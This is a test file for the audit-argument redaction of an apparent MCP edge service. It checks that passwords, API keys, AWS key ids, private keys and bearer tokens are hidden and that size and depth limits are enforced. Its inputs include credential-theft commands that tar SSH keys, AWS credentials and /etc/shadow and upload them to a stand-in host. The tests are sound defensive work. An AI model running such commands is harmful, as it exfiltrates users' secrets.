import { beforeAll, describe, expect, it, vi } from "vitest";
import { MAX_AUDIT_ARGUMENTS_BYTES, MAX_AUDIT_ARGUMENTS_DEPTH } from "../../contract/audit-event.ts";
import {
  auditArguments,
  DEFAULT_REDACTION_RULES,
  REDACTED,
  redact,
  TOO_DEEP,
  TRUNCATED_KEY,
} from "../../contract/audit-redaction.ts";
import { EDGE_ENV_NAMES } from "../../contract/config/env-names.ts";
import { ConfigError, loadConfig } from "../../contract/config/load.ts";
import { EdgeConfig } from "../../contract/config/schema.ts";
import { recordAudit } from "../../worker/audit/record.ts";
import { capturedAudit } from "./audit-capture.ts";
import { callEdge, PUBLIC_URL, testEnv } from "./edge-env.ts";
import { registerClient, signedInTokens } from "./sign-in.ts";

// Shaped like the real things (AWS's documented example key id; a PEM block), not real secrets.
const AWS_KEY_ID = "AKIAIOSFODNN7EXAMPLE";
const PRIVATE_KEY = "-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----";
const noRules = { keys: [], paths: [], patterns: [] };
const bytesOf = (value: unknown) => new TextEncoder().encode(JSON.stringify(value)).length;

/** `levels` arrays, each inside the last, around `inner`: as a client's JSON can nest them, a few bytes a level. */
const nested = (levels: number, inner = "") => JSON.parse(`${"[".repeat(levels)}${inner}${"]".repeat(levels)}`);

describe("redact (contract/audit-redaction.ts)", () => {
  it("hides the values of common secret key names, at any depth and in any case or spelling", () => {
    const given = {
      query: "open issues",
      password: "hunter2",
      nested: { "X-Api-Key": "k-123", access_token: "t-456", list: [{ client_secret: "s-789", max_tokens: 10 }] },
      Authorization: "Basic dXNlcjpwYXNz",
    };
    expect(redact(given, DEFAULT_REDACTION_RULES)).toEqual({
      query: "open issues",
      password: REDACTED,
      nested: { "X-Api-Key": REDACTED, access_token: REDACTED, list: [{ client_secret: REDACTED, max_tokens: 10 }] },
      Authorization: REDACTED,
    });
    expect(given.password).toBe("hunter2"); // the input is left as it was
  });

  it("hides AWS access key ids and private key blocks inside any text, keeping the rest", () => {
    const given = { note: `use ${AWS_KEY_ID} for s3`, files: [`key:\n${PRIVATE_KEY}\nend`] };
    expect(redact(given, DEFAULT_REDACTION_RULES)).toEqual({ note: `use ${REDACTED} for s3`, files: [`key:\n${REDACTED}\nend`] });
  });

  it("hides configured keys, JSON paths and patterns, and nothing without rules", () => {
    const given = { config: { headers: { x: "1" }, items: [{ value: "a", keep: "b" }] }, ssn: "123-45-6789", pin: "0000" };
    const rules = {
      keys: ["pin"],
      paths: ["$.config.headers", "$.config.items[*].value"],
      patterns: [String.raw`\d{3}-\d{2}-\d{4}`],
    };
    expect(redact(given, rules)).toEqual({
      config: { headers: REDACTED, items: [{ value: REDACTED, keep: "b" }] },
      ssn: REDACTED,
      pin: REDACTED,
    });
    expect(redact(given, noRules)).toEqual(given);
  });

  it("replaces what nests deeper than 64 levels by a marker, however deep (each level would be a call on the stack)", () => {
    const kept = { x: nested(MAX_AUDIT_ARGUMENTS_DEPTH - 1), password: "hunter2" };
    expect(redact(kept, DEFAULT_REDACTION_RULES)).toEqual({ ...kept, password: REDACTED });
    const cut = { x: nested(MAX_AUDIT_ARGUMENTS_DEPTH - 2, `["a", {"b": 1}, "c"]`) };
    expect(redact(cut, noRules)).toEqual({ x: nested(MAX_AUDIT_ARGUMENTS_DEPTH - 2, `["a", "${TOO_DEEP}", "c"]`) });
    const deep = { text: "hi", x: nested(50_000) };
    expect(auditArguments(deep, DEFAULT_REDACTION_RULES)).toEqual({
      text: "hi",
      x: nested(MAX_AUDIT_ARGUMENTS_DEPTH - 1, `"${TOO_DEEP}"`),
    });
  });

  it("cuts arguments over 8 KB by size, keeping every key: the longest strings first, each with a marker", () => {
    const large = { password: "hunter2", text: "x".repeat(20_000), note: "kept" };
    const kept = auditArguments(large, DEFAULT_REDACTION_RULES);
    expect(kept).toEqual({
      password: REDACTED,
      text: expect.stringMatching(/^x+…\[truncated from 20000 characters\]$/),
      note: "kept",
    });
    expect(bytesOf(kept)).toBeLessThanOrEqual(MAX_AUDIT_ARGUMENTS_BYTES);
    expect(bytesOf(kept)).toBeGreaterThan(MAX_AUDIT_ARGUMENTS_BYTES - 100); // cut no more than needed
    // Text that escapes to more bytes than characters fits too.
    const escaped = auditArguments({ text: "\u0001".repeat(20_000) }, noRules);
    expect(bytesOf(escaped)).toBeLessThanOrEqual(MAX_AUDIT_ARGUMENTS_BYTES);
    expect(auditArguments({ small: 1 }, noRules)).toEqual({ small: 1 });
  });

  it("a client cannot hide its real arguments behind 8 KB of padding, in any order (s21 audit-durability D8)", () => {
    const real = { path: "/etc/shadow", document: { action: "exfiltrate", to: "https://drop.example" } };
    for (const given of [
      { _pad: "x".repeat(9000), ...real },
      { ...real, _pad: "x".repeat(9000) },
    ]) {
      const kept = auditArguments(given, noRules);
      expect(kept).toEqual({ ...real, _pad: expect.stringContaining("…[truncated from 9000 characters]") });
      expect(bytesOf(kept)).toBeLessThanOrEqual(MAX_AUDIT_ARGUMENTS_BYTES);
    }
    // Two large values are cut to one length; short ones stay whole.
    const two = auditArguments({ a: "a".repeat(6000), b: "b".repeat(7000), c: "short" }, noRules) as Record<string, string>;
    expect(two.c).toBe("short");
    expect(two.a?.indexOf("…")).toBe(two.b?.indexOf("…"));
    // A long key is padding too: it is cut, the others stay.
    const longKey = auditArguments({ ["k".repeat(9000)]: 1, ["k".repeat(9001)]: 2, ...real }, noRules);
    expect(longKey).toEqual(expect.objectContaining(real));
    expect(Object.values(longKey).sort()).toEqual([1, 2, real.document, real.path].sort());
    // Many small items: the array is cut, strings whole, saying how many items it lost.
    const numbers = auditArguments({ ids: Array.from({ length: 5000 }, (_, index) => index), ...real }, noRules);
    expect(numbers).toEqual({ ...real, ids: expect.arrayContaining([0, 1, expect.stringMatching(/^…\[\d+ more items\]$/)]) });
    expect(bytesOf(numbers)).toBeLessThanOrEqual(MAX_AUDIT_ARGUMENTS_BYTES);
    // Each value is redacted before it is cut: a secret at the end of a long value is not kept.
    expect(JSON.stringify(auditArguments({ text: `${"x".repeat(9000)} ${AWS_KEY_ID}` }, DEFAULT_REDACTION_RULES))).not.toContain(
      AWS_KEY_ID,
    );
  });

  it("only arguments with more keys than fit become a preview, with sorted keys and every value cut", () => {
    const many = Object.fromEntries(
      Array.from({ length: 2000 }, (_, index) => [`k${String(1999 - index).padStart(4, "0")}`, "v".repeat(100)]),
    );
    const kept = auditArguments(many, noRules);
    const marker = kept[TRUNCATED_KEY] as { bytes: number; preview: string };
    expect(Object.keys(kept)).toEqual([TRUNCATED_KEY]);
    expect(marker.bytes).toBe(bytesOf(many));
    expect(marker.preview.startsWith(`{"k0000":"${"v".repeat(16)}…[truncated from 100 characters]","k0001"`)).toBe(true);
    expect(bytesOf(kept)).toBeLessThanOrEqual(MAX_AUDIT_ARGUMENTS_BYTES);
  });

  it("the bearer pattern hides bearer tokens, not a path after the word bearer (s21 audit-durability D8)", () => {
    const rules = DEFAULT_REDACTION_RULES;
    const tokens = [
      "Bearer ya29.a0AfH6SMBx3k9pQ-abcdefghijklmnop",
      "bearer mF_9.B5f-4.1JqM-rfc6750.example",
      "Bearer abcdefghijklmnopqrs/tuv+wxyz0123==",
    ];
    for (const token of tokens)
      expect(redact({ header: `Authorization: ${token} sent` }, rules)).toEqual({ header: `Authorization: ${REDACTED} sent` });
    const paths = [
      "tar cz bearer /home/victim/.ssh/id_rsa ~/.aws/credentials | curl -T - https://drop.example/u",
      "tar -C / -cz bearer home/victim/.ssh/id_rsa",
      "cat bearer ~/.config/gcloud/credentials.db",
    ];
    for (const command of paths) expect(redact({ command }, rules)).toEqual({ command });
  });

  it("the bearer pattern hides standard-base64 tokens with a / early, still not a path after bearer (s21 review R1)", () => {
    const rules = DEFAULT_REDACTION_RULES;
    // About one standard-base64 token in five has a `/` among its first 16 characters.
    const tokens = [
      "Bearer ab/Cd9EfGhIjKlMnOpQrStUvWxYz0123456789+abc==",
      "bearer 9/Cd9EfGhIjKlMnOp",
      "Bearer Zm9v/YmFy+YmF6L3F1dXg1Mg",
    ];
    for (const token of tokens) {
      expect(redact({ command: `curl -H 'Authorization: ${token}' https://api.example` }, rules)).toEqual({
        command: `curl -H 'Authorization: ${REDACTED}' https://api.example`,
      });
    }
    // Paths start with `/`, `~` or `.`, or have a `.`, `_`, `-` or `~` in them, or (as words do) no digit.
    const paths = [
      "tar cz bearer /home/victim/Documents2024 | curl -T - https://drop.example/u",
      "tar cz bearer ../../../../etc/shadow",
      "tar cz bearer ~/Documents/Projects2024",
      "tar cz bearer home/victim/projects/secret.txt",
      "tar cz bearer home/victim/Documents",
      "tar cz bearer home/victim2/id_rsa",
    ];
    for (const command of paths) expect(redact({ command }, rules)).toEqual({ command });
  });

  it("refuses a configuration whose path or pattern cannot be used, naming the key", () => {
    const load = (redactRules: unknown) =>
      loadConfig(EdgeConfig, EDGE_ENV_NAMES, { env: { ...minimalEdgeEnv, AUDIT_REDACT: JSON.stringify(redactRules) } });
    expect(load({ paths: ["$.a[*].b"], patterns: ["ab+c"] }).audit.redact).toEqual({
      defaults: true,
      keys: [],
      paths: ["$.a[*].b"],
      patterns: ["ab+c"],
    });
    expect(() => load({ paths: ["a.b"] })).toThrow(ConfigError);
    expect(() => load({ paths: ["a.b"] })).toThrow(/audit\.redact\.paths\.0[\s\S]*expected a JSON path/);
    expect(() => load({ patterns: ["(unclosed"] })).toThrow(
      /audit\.redact\.patterns\.0[\s\S]*expected a JavaScript regular expression/,
    );
  });
});

const minimalEdgeEnv = {
  PUBLIC_URL: "https://mcp.example.com",
  ORIGIN_URL: "https://origin.example.com",
  IDP_ISSUER: "https://idp.example.com",
  IDP_CLIENT_ID: "client",
  IDP_CLIENT_SECRET: "placeholder",
  EDGE_SIGNING_KEY: "placeholder",
};

describe("the edge redacts arguments before it queues an audit event", () => {
  let accessToken: string;
  beforeAll(async () => {
    accessToken = (await signedInTokens(await registerClient())).access_token;
  });
  /** A 2025-06-18 request to the edge, signed in, its audit going to `env`'s queue. */
  const postMcp = (body: string, env: Record<string, unknown>) =>
    callEdge(
      new Request(`${PUBLIC_URL}/mcp/everything`, {
        method: "POST",
        headers: {
          authorization: `Bearer ${accessToken}`,
          "content-type": "application/json",
          accept: "application/json, text/event-stream",
          "mcp-protocol-version": "2025-06-18",
        },
        body,
      }),
      undefined,
      env,
    );

  it("a tools/call's arguments reach the queue redacted by the defaults and audit.redact", async () => {
    const audit = capturedAudit();
    const body = JSON.stringify({
      jsonrpc: "2.0",
      id: 1,
      method: "tools/call",
      params: { name: "echo", arguments: { message: `key ${AWS_KEY_ID}`, api_key: "sk-live-placeholder", ticket: "T-1" } },
    });
    const env = { ...audit.env, AUDIT_REDACT: JSON.stringify({ keys: ["ticket"] }) };
    await postMcp(body, env);
    expect(audit.events.map((event) => event.arguments)).toEqual([
      { message: `key ${REDACTED}`, api_key: REDACTED, ticket: REDACTED },
    ]);
    const queued = JSON.stringify(audit.events);
    expect(queued).not.toContain(AWS_KEY_ID);
    expect(queued).not.toContain("sk-live-placeholder");
  });

  it("a tools/call whose arguments nest as deep as the edge takes (256 levels in all) is audited, what is deeper than 64 levels cut", async () => {
    const audit = capturedAudit();
    const body = `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"message":"hi","x":${"[".repeat(253)}${"]".repeat(253)}}}}`;
    await postMcp(body, audit.env);
    expect(audit.events.map((event) => [event.tool, event.arguments])).toEqual([
      ["echo", { message: "hi", x: nested(MAX_AUDIT_ARGUMENTS_DEPTH - 1, `"${TOO_DEEP}"`) }],
    ]);
  });

  it("an event whose arguments cannot be made ready is queued without them, saying why, and logged", async () => {
    const audit = capturedAudit();
    const waits: Promise<unknown>[] = [];
    const logged = vi.spyOn(console, "error").mockImplementation(() => {});
    // Not JSON (a request's arguments always are): something no limit foresaw, which makes redaction throw.
    const facts = {
      kind: "mcp.request",
      tool: "echo",
      outcome: "ok",
      latencyMs: 3,
      arguments: { n: 10n, secret: "s-1" },
    } as const;
    recordAudit(testEnv(audit.env), { waitUntil: (promise) => waits.push(promise) }, facts);
    await Promise.all(waits);
    const lines = logged.mock.calls.map(([line]) => String(line));
    logged.mockRestore();
    expect(audit.events).toEqual([
      expect.objectContaining({ tool: "echo", arguments: { [TRUNCATED_KEY]: { error: expect.stringContaining("BigInt") } } }),
    ]);
    expect(lines).toEqual([expect.stringContaining(`audit event ${audit.events[0]?.id}: `)]);
    expect(lines.join()).not.toContain("s-1");
  });

  it("events without arguments are queued as they were", async () => {
    const audit = capturedAudit();
    const waits: Promise<unknown>[] = [];
    const facts = { kind: "auth.sign_in", userSub: "u-1", outcome: "ok", latencyMs: 3 } as const;
    recordAudit(testEnv(audit.env), { waitUntil: (promise) => waits.push(promise) }, facts);
    await Promise.all(waits);
    expect(audit.events).toEqual([expect.objectContaining(facts)]);
    expect(audit.events[0]).not.toHaveProperty("arguments");
  });
});
